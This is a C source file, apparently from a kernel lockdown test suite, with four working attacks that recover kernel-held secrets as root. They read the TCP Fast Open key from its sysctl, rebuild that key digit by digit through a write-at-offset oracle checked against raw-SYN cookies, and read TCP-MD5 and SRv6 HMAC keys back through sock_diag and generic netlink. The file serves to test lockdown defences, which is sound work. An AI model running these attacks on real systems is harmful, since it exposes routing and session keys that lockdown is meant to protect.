// SPDX-License-Identifier: GPL-2.0
/*
 * Keys the kernel holds and hands back to root through interfaces of their
 * own, which ask no lockdown reason (the models' secrets paths): what
 * xfrm_user's redaction keeps from IPsec's dumps, and nothing keeps from
 * these.
 *
 * tfo-key: the TCP Fast Open cookie key, which the kernel draws at random
 * as the first listener asks for Fast Open (tcp_fastopen_init_key_once()),
 * read back from the sysctl net.ipv4.tcp_fastopen_key.
 *
 * tfo-oracle: the same key, never read: a write at an offset keeps what
 * the sysctl's buffer held before it (proc_dostring() with
 * kernel.sysctl_writes_strict), and proc_tcp_fastopen_key() fills that
 * buffer with the key it holds. pwrite(GUESS + KNOWN, at P) installs
 * key[0, P) + GUESS + KNOWN, and the Fast Open cookie a listener hands a
 * raw SYN tells whether that is the key it had: the key, a hex digit at a
 * time from its end, and the kernel's key as it was when done.
 *
 * tcp-md5-diag: a listener's TCP-MD5 key, set as a BGP daemon sets its
 * session keys (TCP_MD5SIG), read back from sock_diag's TCP dump
 * (INET_DIAG_MD5SIG, for CAP_NET_ADMIN, with INET_DIAG_INFO asked for, as
 * ss -i asks): the request as ss(8) sends it, or
 * naming TCP in an INET_DIAG_REQ_PROTOCOL attribute (mode attr), or as the
 * old TCPDIAG_GETSOCK (mode compat), or as the old DCCPDIAG_GETSOCK with
 * that attribute (mode dccp-attr: a red team's).
 *
 * seg6-hmac: an SRv6 HMAC secret, set as a router's daemon would
 * (SEG6_CMD_SETHMAC) and read back from SEG6_CMD_DUMPHMAC, over generic
 * netlink (net/ipv6/seg6.c; a kernel without CONFIG_IPV6_SEG6_HMAC says
 * ENOTSUPP); mode batch sends a SEG6_CMD_GET_TUNSRC first, in the same
 * datagram, as one batch the kernel takes message by message.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/genetlink.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/seg6_genl.h>
#include <linux/seg6_hmac.h>
#include <linux/sock_diag.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"
#include "nlxfrm.h"

#define TFO_SYSCTL	"/proc/sys/net/ipv4/tcp_fastopen"
#define TFO_KEY_SYSCTL	"/proc/sys/net/ipv4/tcp_fastopen_key"
#define SEG6_KEY_ID	0x1d5e
#define SEG6_SECRET	"ldattack-srv6-hmac-secret-0123456789abcdef"

/* Read sysctl @path into @buf: 0 or errno. */
static int sysctl_read(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), err = 0;
	ssize_t n;

	if (fd < 0)
		return errno;
	n = read(fd, buf, size - 1);
	if (n < 0) {
		err = errno;
	} else {
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
	}
	close(fd);
	return err;
}

/* Write @val to sysctl @path: 0 or errno. */
static int sysctl_write(const char *path, const char *val)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC), err = 0;
	ssize_t w;

	if (fd < 0)
		return errno;
	w = write(fd, val, strlen(val));
	if (w < 0)
		err = errno;
	else if ((size_t)w != strlen(val))
		err = EIO;
	if (close(fd) && !err)
		err = errno;
	return err;
}

/*
 * Fast Open for clients and servers (net.ipv4.tcp_fastopen = 3), what it
 * was into @was (to put back): 0, or -1 with @o set.
 */
static int tfo_enable(struct aresult *o, char *was, size_t len)
{
	int err = sysctl_read(TFO_SYSCTL, was, len);

	if (err == ENOENT) {
		unavailable(o, "no %s in this kernel", TFO_SYSCTL);
		return -1;
	}
	if (err || (err = sysctl_write(TFO_SYSCTL, "3"))) {
		errno_outcome(o, err, "net.ipv4.tcp_fastopen");
		return -1;
	}
	return 0;
}

static void run_tfo_key(struct aresult *o, int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_ANY) };
	char was[32], key[256];
	int s, qlen = 5, err;

	(void)argc;
	(void)argv;
	if (tfo_enable(o, was, sizeof(was)))
		return;
	/* a Fast Open listener: the kernel draws its key, if it has none */
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN, &qlen, sizeof(qlen)) ||
	    bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 1)) {
		failed(o, "a TCP Fast Open listener: %s", strerror(errno));
		if (s >= 0)
			close(s);
		sysctl_write(TFO_SYSCTL, was);
		return;
	}
	err = sysctl_read(TFO_KEY_SYSCTL, key, sizeof(key));
	close(s);
	sysctl_write(TFO_SYSCTL, was);
	if (err == ENOENT)
		unavailable(o, "no %s in this kernel", TFO_KEY_SYSCTL);
	else if (err)
		errno_outcome(o, err, "reading net.ipv4.tcp_fastopen_key");
	else if (strspn(key, "0-") == strlen(key))
		refused(o, "net.ipv4.tcp_fastopen_key reads all zeros: %s", key);
	else
		shown(o, "read the kernel's TCP Fast Open key from net.ipv4.tcp_fastopen_key: "
		      "%.17s...", key);
}

#define ORACLE_PORT	4567
#define TCPOPT_FASTOPEN	34

/* The one's complement sum of @len bytes at @p, from @sum. */
static uint32_t sum16(const uint8_t *p, size_t len, uint32_t sum)
{
	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

/*
 * A SYN from the raw socket @raw to the listener, asking for a Fast Open
 * cookie (an empty cookie option), and the cookie of its SYN-ACK into
 * @cookie: 0, or -1.
 */
static int tfo_cookie(int raw, uint16_t sport, uint8_t cookie[8])
{
	uint8_t pkt[sizeof(struct tcphdr) + 8] = { 0 }, ph[12] = { 0 }, buf[2048];
	uint8_t opts[8] = { 2, 4, 0x05, 0xb4, TCPOPT_FASTOPEN, 2, 1, 1 };
	struct tcphdr *th = (struct tcphdr *)pkt;
	struct sockaddr_in dst = { .sin_family = AF_INET,
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	uint32_t lo = htonl(INADDR_LOOPBACK), sum;

	th->source = htons(sport);
	th->dest = htons(ORACLE_PORT);
	th->seq = htonl(0x1d0c0000 | sport);
	th->syn = 1;
	th->window = htons(65535);
	th->doff = sizeof(pkt) / 4;
	memcpy(pkt + sizeof(*th), opts, sizeof(opts));
	memcpy(ph, &lo, 4);
	memcpy(ph + 4, &lo, 4);
	ph[9] = IPPROTO_TCP;
	ph[11] = sizeof(pkt);
	sum = sum16(pkt, sizeof(pkt), sum16(ph, sizeof(ph), 0));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	th->check = htons((uint16_t)~sum);
	if (sendto(raw, pkt, sizeof(pkt), 0, (struct sockaddr *)&dst, sizeof(dst)) < 0)
		return -1;
	for (int tries = 0; tries < 50; tries++) {
		struct pollfd pf = { .fd = raw, .events = POLLIN };
		struct tcphdr *r;
		uint8_t *o, *end;
		ssize_t n;
		size_t ihl;

		if (poll(&pf, 1, 500) <= 0)
			return -1;
		n = recv(raw, buf, sizeof(buf), 0);
		if (n < (ssize_t)sizeof(struct iphdr))
			continue;
		ihl = ((struct iphdr *)buf)->ihl * 4;
		if ((size_t)n < ihl + sizeof(*r))
			continue;
		r = (struct tcphdr *)(buf + ihl);
		if (ntohs(r->source) != ORACLE_PORT || ntohs(r->dest) != sport || !r->syn || !r->ack)
			continue;
		o = (uint8_t *)(r + 1);
		end = (uint8_t *)r + r->doff * 4;
		if (end > buf + n)
			return -1;
		while (o < end && *o) {
			if (*o == 1) {
				o++;
				continue;
			}
			if (o + 1 >= end || o[1] < 2)
				break;
			if (o[0] == TCPOPT_FASTOPEN && o[1] == 10) {
				memcpy(cookie, o + 2, 8);
				return 0;
			}
			o += o[1];
		}
		return -1;
	}
	return -1;
}

/* pwrite(@s) at @pos into the key's sysctl: 0 or errno. */
static int key_pwrite(const char *s, off_t pos)
{
	int fd = open(TFO_KEY_SYSCTL, O_WRONLY | O_CLOEXEC), err = 0;
	ssize_t w;

	if (fd < 0)
		return errno;
	w = pwrite(fd, s, strlen(s), pos);
	if (w < 0)
		err = errno;
	if (close(fd) && !err)
		err = errno;
	return err;
}

/* Recover the key a digit at a time, from position 34 (its last) to 0. */
static void tfo_recover(struct aresult *o, int raw)
{
	uint8_t c0[8], c[8];
	char known[40] = "", t[40];
	uint16_t sport = 20000;
	int writes = 0, err;

	if (tfo_cookie(raw, sport++, c0)) {
		failed(o, "no Fast Open cookie for a SYN to the listener");
		return;
	}
	for (int p = 34; p >= 0; p--) {
		int found = -1;

		if (p == 8 || p == 17 || p == 26) {
			snprintf(t, sizeof(t), "-%s", known);
			strcpy(known, t);
			continue;
		}
		for (int g = 0; g < 16 && found < 0; g++) {
			snprintf(t, sizeof(t), "%x%s", g, known);
			err = key_pwrite(t, p);
			if (err) {
				errno_outcome(o, err, "a write of the key at an offset");
				return;
			}
			writes++;
			if (tfo_cookie(raw, sport++, c) && tfo_cookie(raw, sport++, c)) {
				failed(o, "no Fast Open cookie after %d writes", writes);
				return;
			}
			if (!memcmp(c, c0, sizeof(c)))
				found = g;
		}
		if (found < 0) {
			refused(o, "no digit at %d gives the cookie back: what the write keeps "
				"is not the kernel's key", p);
			return;
		}
		snprintf(t, sizeof(t), "%x%s", found, known);
		strcpy(known, t);
	}
	if (tfo_cookie(raw, sport++, c) || memcmp(c, c0, sizeof(c)))
		failed(o, "recovered %s, but the cookie no longer matches", known);
	else
		shown(o, "the kernel's Fast Open key recovered, never read, in %d writes: "
		      "%.17s...", writes, known);
}

static void run_tfo_oracle(struct aresult *o, int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(ORACLE_PORT),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int l, raw, one = 1, qlen = 1024;
	char was[32];

	(void)argc;
	(void)argv;
	if (tfo_enable(o, was, sizeof(was)))
		return;
	l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	/* the SYNs go over loopback, which the test VM leaves down */
	if (l >= 0) {
		struct ifreq ifr = { .ifr_name = "lo" };

		if (!ioctl(l, SIOCGIFFLAGS, &ifr) && !(ifr.ifr_flags & IFF_UP)) {
			ifr.ifr_flags |= IFF_UP;
			ioctl(l, SIOCSIFFLAGS, &ifr);
		}
	}
	raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);
	if (l < 0 || raw < 0 || setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
	    bind(l, (struct sockaddr *)&a, sizeof(a)) ||
	    setsockopt(l, IPPROTO_TCP, TCP_FASTOPEN, &qlen, sizeof(qlen)) || listen(l, 1024))
		failed(o, "a Fast Open listener and a raw socket: %s", strerror(errno));
	else
		tfo_recover(o, raw);
	if (l >= 0)
		close(l);
	if (raw >= 0)
		close(raw);
	sysctl_write(TFO_SYSCTL, was);
}

/* A generic netlink request: @q started as @type (a family id), then @cmd. */
static void genl_start(struct nlreq *q, unsigned short type, unsigned short flags, uint8_t cmd)
{
	struct genlmsghdr g = { .cmd = cmd, .version = 1 };

	nlreq_start(q, type, flags);
	nlreq_put(q, &g, sizeof(g));
}

/* The attribute @type of the attributes from @a to @end, or NULL. */
static struct nlattr *attr_find(struct nlattr *a, char *end, unsigned short type)
{
	while ((char *)a + sizeof(*a) <= end && a->nla_len >= sizeof(*a) &&
	       (char *)a + a->nla_len <= end) {
		if ((a->nla_type & NLA_TYPE_MASK) == type)
			return a;
		a = (struct nlattr *)((char *)a + NLA_ALIGN(a->nla_len));
	}
	return NULL;
}

/*
 * Generic netlink's id of family @name: > 0, or -errno. On a socket of its
 * own: the answer is followed by an ack, which nlreq_talk() leaves unread.
 */
static int genl_family(const char *name)
{
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_GENERIC), err;
	struct nlreq q;
	char buf[4096];
	struct nlmsghdr *h = (struct nlmsghdr *)buf;
	struct nlattr *id;
	ssize_t got;

	if (fd < 0)
		return -errno;
	genl_start(&q, GENL_ID_CTRL, 0, CTRL_CMD_GETFAMILY);
	nlreq_attr(&q, CTRL_ATTR_FAMILY_NAME, name, strlen(name) + 1);
	err = nlreq_talk(fd, &q, buf, sizeof(buf), &got);
	close(fd);
	if (err)
		return -err;
	id = attr_find((struct nlattr *)((char *)NLMSG_DATA(h) + GENL_HDRLEN), buf + got,
		       CTRL_ATTR_FAMILY_ID);
	return id ? *(uint16_t *)((char *)id + NLA_HDRLEN) : -ENOENT;
}

/* SEG6_CMD_SETHMAC of our key id, with @secret (NULL: remove it): 0 or errno. */
static int seg6_set(int fd, int family, const char *secret)
{
	uint32_t keyid = SEG6_KEY_ID;
	uint8_t len = secret ? strlen(secret) : 0, alg = SEG6_HMAC_ALGO_SHA256;
	struct nlreq q;
	char buf[1024];
	ssize_t got;

	genl_start(&q, family, 0, SEG6_CMD_SETHMAC);
	nlreq_attr(&q, SEG6_ATTR_HMACKEYID, &keyid, sizeof(keyid));
	nlreq_attr(&q, SEG6_ATTR_SECRETLEN, &len, sizeof(len));
	nlreq_attr(&q, SEG6_ATTR_ALGID, &alg, sizeof(alg));
	if (secret)
		nlreq_attr(&q, SEG6_ATTR_SECRET, secret, len);
	return nlreq_talk(fd, &q, buf, sizeof(buf), &got);
}

struct seg6_saw {
	const char *secret;
	bool seen;
	int msgs;
};

/* An answer to SEG6_CMD_DUMPHMAC: does it carry our key id's secret? */
static void seg6_answer(const struct nlmsghdr *h, void *ctx)
{
	struct seg6_saw *s = ctx;
	char *end = (char *)h + h->nlmsg_len;
	struct nlattr *first, *id, *sec;

	s->msgs++;
	first = (struct nlattr *)((char *)NLMSG_DATA(h) + GENL_HDRLEN);
	id = attr_find(first, end, SEG6_ATTR_HMACKEYID);
	sec = attr_find(first, end, SEG6_ATTR_SECRET);
	if (id && sec && *(uint32_t *)((char *)id + NLA_HDRLEN) == SEG6_KEY_ID &&
	    (size_t)(sec->nla_len - NLA_HDRLEN) >= strlen(s->secret) &&
	    !memcmp((char *)sec + NLA_HDRLEN, s->secret, strlen(s->secret)))
		s->seen = true;
}

/*
 * SEG6_CMD_DUMPHMAC: whether an answer for our key id carried @secret;
 * 0 (*@seen set), or errno.
 */
static int seg6_dump_saw(int fd, int family, bool batch, const char *secret, bool *seen,
			 int *msgs)
{
	struct seg6_saw s = { .secret = secret };
	struct nlreq first, q;
	int err;

	genl_start(&first, family, 0, SEG6_CMD_GET_TUNSRC);
	genl_start(&q, family, NLM_F_DUMP, SEG6_CMD_DUMPHMAC);
	err = nlreq_dump_after(fd, batch ? &first : NULL, &q, seg6_answer, &s);
	*seen = s.seen;
	*msgs += s.msgs;
	return err;
}

static void run_seg6_hmac(struct aresult *o, int argc, char **argv)
{
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_GENERIC), family, err;
	bool seen, batch = argc > 0 && !strcmp(argv[0], "batch");
	int msgs = 0;

	if (argc > 0 && !batch) {
		failed(o, "no such mode: %s (batch)", argv[0]);
		if (fd >= 0)
			close(fd);
		return;
	}
	if (fd < 0) {
		failed(o, "socket(NETLINK_GENERIC): %s", strerror(errno));
		return;
	}
	family = genl_family(SEG6_GENL_NAME);
	if (family < 0) {
		if (family == -ENOENT)
			unavailable(o, "no SEG6 generic netlink family (no IPv6 segment routing)");
		else
			errno_outcome(o, -family, "CTRL_CMD_GETFAMILY SEG6");
		close(fd);
		return;
	}
	err = seg6_set(fd, family, SEG6_SECRET);
	if (err == 524 /* ENOTSUPP */ || err == EOPNOTSUPP) {
		unavailable(o, "no SRv6 HMAC in this kernel (SEG6_CMD_SETHMAC: ENOTSUPP)");
		close(fd);
		return;
	}
	if (err) {
		errno_outcome(o, err, "SEG6_CMD_SETHMAC");
		close(fd);
		return;
	}
	err = seg6_dump_saw(fd, family, batch, SEG6_SECRET, &seen, &msgs);
	seg6_set(fd, family, NULL);
	close(fd);
	if (err == 524 || err == EOPNOTSUPP)
		unavailable(o, "no SRv6 HMAC in this kernel (SEG6_CMD_DUMPHMAC: ENOTSUPP)");
	else if (err)
		errno_outcome(o, err, "SEG6_CMD_DUMPHMAC");
	else if (seen)
		shown(o, "SEG6_CMD_DUMPHMAC returned the HMAC secret of key id %#x, whole",
		      SEG6_KEY_ID);
	else
		refused(o, "SEG6_CMD_DUMPHMAC answered without the secret (%d answers)", msgs);
}

void lo_up(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct ifreq ifr = { .ifr_name = "lo" };

	if (fd < 0)
		return;
	if (!ioctl(fd, SIOCGIFFLAGS, &ifr) && !(ifr.ifr_flags & IFF_UP)) {
		ifr.ifr_flags |= IFF_UP;
		ioctl(fd, SIOCSIFFLAGS, &ifr);
	}
	close(fd);
}

/*
 * A TCP listener on 127.0.0.1 with a TCP-MD5 key of TCP_MD5SIG_MAXKEYLEN
 * random bytes @key for peer 127.0.0.2: its fd, its port in *@port, or -1
 * with @o set.
 */
static int md5_listener(struct aresult *o, unsigned char *key, uint16_t *port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_in *peer;
	struct tcp_md5sig m = { .tcpm_keylen = TCP_MD5SIG_MAXKEYLEN };
	socklen_t len = sizeof(a);
	int fd, rnd;

	rnd = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
	if (rnd < 0 || read(rnd, key, TCP_MD5SIG_MAXKEYLEN) != TCP_MD5SIG_MAXKEYLEN) {
		failed(o, "/dev/urandom: %s", strerror(errno));
		if (rnd >= 0)
			close(rnd);
		return -1;
	}
	close(rnd);
	memcpy(m.tcpm_key, key, TCP_MD5SIG_MAXKEYLEN);
	peer = (struct sockaddr_in *)&m.tcpm_addr;
	peer->sin_family = AF_INET;
	peer->sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1);
	lo_up();
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) ||
	    getsockname(fd, (struct sockaddr *)&a, &len)) {
		failed(o, "a TCP listener on 127.0.0.1: %s", strerror(errno));
	} else if (setsockopt(fd, IPPROTO_TCP, TCP_MD5SIG, &m, sizeof(m))) {
		if (errno == ENOPROTOOPT)
			unavailable(o, "no TCP-MD5 in this kernel (TCP_MD5SIG: ENOPROTOOPT)");
		else
			failed(o, "TCP_MD5SIG: %s", strerror(errno));
	} else if (listen(fd, 1)) {
		failed(o, "listen: %s", strerror(errno));
	} else {
		*port = ntohs(a.sin_port);
		return fd;
	}
	if (fd >= 0)
		close(fd);
	return -1;
}

/*
 * A sock_diag request for TCP listeners on AF_INET, as @mode asks (NULL,
 * "attr", "compat" or "dccp-attr"), into @q, and what it is into @what:
 * 0, or -1 for no such mode.
 */
static int md5_request(struct nlreq *q, const char *mode, const char **what)
{
	uint32_t tcp = IPPROTO_TCP;
	struct inet_diag_req_v2 r = {
		.sdiag_family = AF_INET,
		.sdiag_protocol = IPPROTO_TCP,
		.idiag_ext = 1 << (INET_DIAG_INFO - 1),	/* the keys come with it */
		.idiag_states = 1 << 10,		/* TCP_LISTEN */
	};
	struct inet_diag_req old = {
		.idiag_family = AF_INET,
		.idiag_ext = 1 << (INET_DIAG_INFO - 1),
		.idiag_states = 1 << 10,
	};

	if (!mode) {
		*what = "a sock_diag dump of TCP";
		nlreq_start(q, SOCK_DIAG_BY_FAMILY, NLM_F_DUMP);
		nlreq_put(q, &r, sizeof(r));
	} else if (!strcmp(mode, "attr")) {
		*what = "a sock_diag dump naming TCP in INET_DIAG_REQ_PROTOCOL";
		r.sdiag_protocol = IPPROTO_UDP;
		nlreq_start(q, SOCK_DIAG_BY_FAMILY, NLM_F_DUMP);
		nlreq_put(q, &r, sizeof(r));
		nlreq_attr(q, INET_DIAG_REQ_PROTOCOL, &tcp, sizeof(tcp));
	} else if (!strcmp(mode, "compat")) {
		*what = "a TCPDIAG_GETSOCK dump";
		nlreq_start(q, TCPDIAG_GETSOCK, NLM_F_DUMP);
		nlreq_put(q, &old, sizeof(old));
	} else if (!strcmp(mode, "dccp-attr")) {
		*what = "a DCCPDIAG_GETSOCK dump naming TCP in INET_DIAG_REQ_PROTOCOL";
		nlreq_start(q, DCCPDIAG_GETSOCK, NLM_F_DUMP);
		nlreq_put(q, &old, sizeof(old));
		nlreq_attr(q, INET_DIAG_REQ_PROTOCOL, &tcp, sizeof(tcp));
	} else {
		return -1;
	}
	return 0;
}

/* include/uapi/linux/tcp.h's, which <netinet/tcp.h> does not have */
struct diag_md5sig {
	uint8_t family;
	uint8_t prefixlen;
	uint16_t keylen;
	uint32_t addr[4];
	uint8_t key[TCP_MD5SIG_MAXKEYLEN];
};

struct md5_saw {
	uint16_t port;
	const unsigned char *key;
	bool found;
	bool seen;
};

/* An answer of sock_diag's: our listener, and does it carry our key? */
static void md5_answer(const struct nlmsghdr *h, void *ctx)
{
	struct md5_saw *s = ctx;
	struct inet_diag_msg *m = NLMSG_DATA(h);
	char *end = (char *)h + h->nlmsg_len;
	struct nlattr *a;

	if (h->nlmsg_len < NLMSG_LENGTH(sizeof(*m)) || ntohs(m->id.idiag_sport) != s->port)
		return;
	s->found = true;
	a = attr_find((struct nlattr *)((char *)m + NLMSG_ALIGN(sizeof(*m))), end, INET_DIAG_MD5SIG);
	for (char *p = a ? (char *)a + NLA_HDRLEN : NULL;
	     p && p + sizeof(struct diag_md5sig) <= (char *)a + a->nla_len;
	     p += sizeof(struct diag_md5sig)) {
		struct diag_md5sig d;

		memcpy(&d, p, sizeof(d));
		if (d.keylen == TCP_MD5SIG_MAXKEYLEN && !memcmp(d.key, s->key, TCP_MD5SIG_MAXKEYLEN))
			s->seen = true;
	}
}

static void run_tcp_md5_diag(struct aresult *o, int argc, char **argv)
{
	unsigned char key[TCP_MD5SIG_MAXKEYLEN];
	const char *mode = argc > 0 ? argv[0] : NULL;
	struct md5_saw s = { .key = key };
	struct nlreq q;
	const char *what;
	int l, fd, err;

	if (md5_request(&q, mode, &what)) {
		failed(o, "no such mode: %s (attr, compat, dccp-attr)", mode);
		return;
	}
	l = md5_listener(o, key, &s.port);
	if (l < 0)
		return;
	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
	if (fd < 0) {
		failed(o, "socket(NETLINK_SOCK_DIAG): %s", strerror(errno));
		close(l);
		return;
	}
	err = nlreq_dump(fd, &q, md5_answer, &s);
	close(fd);
	close(l);
	if (err == ENOENT || err == EOPNOTSUPP)
		unavailable(o, "no TCP sock_diag in this kernel (%s)", strerror(err));
	else if (err)
		errno_outcome(o, err, what);
	else if (s.seen)
		shown(o, "sock_diag's TCP dump returned a listener's TCP-MD5 key, whole");
	else if (s.found)
		refused(o, "sock_diag's TCP dump answered without the listener's TCP-MD5 key");
	else
		failed(o, "sock_diag's TCP dump did not list the listener on port %u", s.port);
}

const struct attack attacks_keys[] = {
	{ "tfo-key", "the kernel's random TCP Fast Open key read back from its sysctl",
	  run_tfo_key },
	{ "tfo-oracle", "the kernel's TCP Fast Open key recovered through writes at an offset "
	  "and the cookies it makes", run_tfo_oracle },
	{ "seg6-hmac", "an SRv6 HMAC secret read back with SEG6_CMD_DUMPHMAC", run_seg6_hmac },
	{ "tcp-md5-diag", "a listener's TCP-MD5 key read back from sock_diag's TCP dump "
	  "([attr|compat|dccp-attr])", run_tcp_md5_diag },
	{ 0 }
};
